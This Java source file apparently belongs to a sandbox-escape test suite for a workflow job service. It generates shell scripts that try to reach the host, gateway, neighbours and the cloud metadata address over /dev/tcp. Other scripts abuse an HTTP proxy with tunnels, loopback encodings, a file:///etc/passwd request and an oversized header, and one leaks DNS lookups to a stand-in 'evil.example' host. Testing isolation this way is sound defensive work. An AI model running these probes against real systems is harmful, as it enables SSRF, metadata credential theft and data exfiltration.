package org.periplus.attacks;

import java.util.ArrayList;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;

/** Tools with network access that look for the host, the API, and other machines. */
final class EgressAttacks {

  private static final String KIND = "network";
  private static final String PROXY = "p=${http_proxy#http://}; p=${p%/}; h=${p%:*}; n=${p##*:}; ";

  /** The API's answer, as what only the canary knows. */
  private static final String TELLS = " | grep -q jobs && echo " + Canary.SECRET;

  private EgressAttacks() {}

  static List<Attack> rows(Target target) {
    List<Attack> rows = new ArrayList<>();
    scripts(target)
        .forEach(
            (name, script) -> {
              String id = Packages.id(KIND, "x");
              String cwl =
                  Packages.script(
                      id,
                      ", NetworkAccess: {networkAccess: true}",
                      "{out: stdout}\nstdout: out.txt",
                      script + "; true");
              rows.add(new JobAttack(KIND, name, id, cwl, "{}", JobAttack.End.TRIED));
            });
    return rows;
  }

  private static Map<String, String> scripts(Target target) {
    Map<String, String> all = new LinkedHashMap<>();
    int port = target.canary().port();
    String gateway =
        "g=$(perl -ane 'print join(\".\", map { hex } reverse $F[2] =~ /../g) if $F[1] eq"
            + " \"00000000\"' /proc/net/route); ";
    for (String host :
        List.of(
            "127.0.0.1",
            "172.17.0.1",
            "172.18.0.1",
            "host.docker.internal",
            "169.254.169.254",
            "192.168.0.1")) {
      all.put("straight to " + host, straight("", host, port, "/net-" + host));
      all.put(
          "straight to the API at " + host,
          straight("", host, target.port(), "/ogc-api/jobs") + TELLS);
    }
    all.put("straight to the gateway", straight(gateway, "$g", port, "/net-gateway"));
    all.put(
        "straight to every address of its network",
        "g=$(hostname -I); g=${g%.*}; for i in 1 2 3 254; do (exec 3<>/dev/tcp/$g.$i/"
            + port
            + "; printf 'GET /net-neighbour HTTP/1.0\\r\\n\\r\\n' >&3; cat <&3) & done; sleep 5");
    for (String host :
        List.of(
            "127.0.0.1",
            "localhost",
            "[::1]",
            "172.17.0.1",
            "0.0.0.0",
            "2130706433",
            "169.254.169.254",
            "[::ffff:127.0.0.1]",
            "[64:ff9b::7f00:1]")) {
      all.put(
          "by the proxy to " + host,
          proxied(
              "GET http://"
                  + host
                  + ":"
                  + port
                  + "/net-proxied HTTP/1.1\\r\\nHost: "
                  + host
                  + "\\r\\n\\r\\n"));
      all.put(
          "by a tunnel to " + host,
          proxied(
              "CONNECT "
                  + host
                  + ":"
                  + port
                  + " HTTP/1.1\\r\\nHost: "
                  + host
                  + "\\r\\n\\r\\nGET /net-tunnel HTTP/1.0\\r\\n\\r\\n"));
    }
    all.put(
        "by the proxy, another host in the header",
        proxied(
            "GET http://example.org/net-header HTTP/1.1\\r\\nHost: 127.0.0.1:"
                + port
                + "\\r\\n\\r\\n"));
    all.put(
        "by the proxy, no URL",
        proxied("GET /net-origin HTTP/1.1\\r\\nHost: 127.0.0.1:" + port + "\\r\\n\\r\\n"));
    all.put(
        "by the proxy, another scheme",
        proxied("GET file:///etc/passwd HTTP/1.1\\r\\nHost: x\\r\\n\\r\\n"));
    all.put("by the proxy, no HTTP", proxied("\\001\\002\\003\\r\\n\\r\\n"));
    all.put(
        "by the proxy, a header of 1 MB",
        PROXY
            + "timeout 20 bash -c \"exec 3<>/dev/tcp/$h/$n; (printf 'GET http://example.org/"
            + " HTTP/1.1\\r"
            + "\\n"
            + "X: '; head -c 1000000 /dev/zero | tr '\\0' a) >&3; head -c 300 <&3\"");
    all.put(
        "names asked for to tell something",
        "for i in 1 2 3; do timeout 5 getent hosts secret-$i.evil.example; done");
    return all;
  }

  private static String straight(String before, String host, int port, String path) {
    return before
        + "export g; timeout 8 bash -c \"exec 3<>/dev/tcp/"
        + host
        + "/"
        + port
        + "; printf 'GET "
        + path
        + " HTTP/1.0\\r\\nHost: localhost\\r\\n\\r\\n' >&3; cat <&3\"";
  }

  private static String proxied(String request) {
    return PROXY
        + "timeout 8 bash -c \"exec 3<>/dev/tcp/$h/$n; printf '"
        + request
        + "' >&3; head -c 2000 <&3\"";
  }
}
